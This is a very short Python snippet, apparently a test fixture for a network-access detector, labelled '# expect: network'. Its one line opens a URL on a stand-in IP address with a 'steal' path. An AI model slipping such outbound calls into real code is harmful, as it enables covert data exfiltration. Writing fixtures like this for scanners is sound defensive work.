# expect: network
import urllib.request as ur

data = ur.urlopen("http://198.51.100.7/steal?x=1").read()
